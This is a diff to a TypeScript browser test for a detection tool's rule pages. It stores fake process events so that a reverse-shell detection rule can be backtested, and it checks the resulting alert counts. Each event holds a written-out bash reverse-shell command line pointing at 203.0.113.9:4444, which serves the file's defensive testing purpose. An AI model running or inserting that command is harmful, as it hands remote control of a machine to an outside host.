@@ -1,20 +1,50 @@
 /** The pages about rules in a real browser: finding one, writing on it, what its tests and a backtest say, coverage. */
 import { join } from 'node:path';
-import t from 'tap';
+import t, { type Test } from 'tap';
+import { Backtests } from '../../collector/backtest/backtests.ts';
 import { packPath } from '../../collector/rules/load.ts';
 import { ruleTexts } from '../../collector/rules/texts.ts';
 import { startApi } from '../collector/api/start.ts';
+import { hostOf, StoredEvents, secondUs } from '../collector/backtest/stored-events.ts';
 import { newAlert } from '../collector/store/control/new-alert.ts';
 import { absent, buildWeb, pictures, signIn, webRoot } from './visit.ts';
 
 t.before(() => buildWeb(t));
 
+/** Three reverse shells on two hosts, an hour ago. */
+async function withShells(t: Test): Promise<StoredEvents> {
+  const stored = new StoredEvents(t, 2);
+  const at = (Date.now() - 3_600_000) * 1000;
+  for (const [n, host] of [0, 0, 1].entries()) {
+    const event = {
+      ...{ type: 'process.start', time: at + n * secondUs, 'process.executable': '/bin/bash' },
+      'process.command_line': 'bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
+    };
+    await stored.append([{ hostId: hostOf(host).id, receivedAt: at + n * secondUs, events: [event] }]);
+  }
+  return stored;
+}
+
+function backtestsOver(t: Test, stored: StoredEvents): Backtests {
+  const backtests = new Backtests({
+    entry: new URL('../../collector/backtest.process.ts', import.meta.url),
+    ...{ folder: stored.folder, keyFile: '', threads: 1, memoryBytes: 2 ** 31 },
+    inForce: () => ({ rulePaths: [], listPaths: [], uses: [] }),
+    hosts: async () => stored.hosts,
+    audit: async () => undefined,
+  });
+  t.teardown(() => backtests.close());
+  return backtests;
+}
+
 const id = 'rule-of-the-pack';
 const file = join(packPath, 'reverse-shell.yml');
 
 t.test('a rule from the list to its tests', { skip: absent }, async (t) => {
+  const stored = await withShells(t);
   const api = await startApi(t, {
     webRoot: webRoot(),
+    backtests: backtestsOver(t, stored),
     rules: () => ({
       rules: [
         { id, title: 'Reverse shell', level: 'critical', tags: [], logsource: {}, file },
@@ -48,11 +78,10 @@ t.test('a rule from the list to its tests', { skip: absent }, async (t) => {
   await tests.fill((await tests.inputValue()).replace('expect: hit', 'expect: miss'));
   await page.locator('.check-bad').waitFor();
   await page.getByRole('button', { name: 'Run over stored events' }).click();
-  await page
-    .locator('.backtest')
-    .getByText(/alerts|cannot|unable|could/)
-    .first()
-    .waitFor({ timeout: 60_000 });
+  await page.locator('.backtest strong', { hasText: '3 alerts' }).waitFor({ timeout: 60_000 });
+  await page.locator('.day-bars meter').first().waitFor();
+  await page.locator('.backtest').getByText('3 new, 0 gone').waitFor();
+  await page.locator('.backtest').getByText('2 on host-0').waitFor();
   await page.screenshot({ path: join(pictures, 'rule.png'), fullPage: true });
   t.same(faults, []);
 });
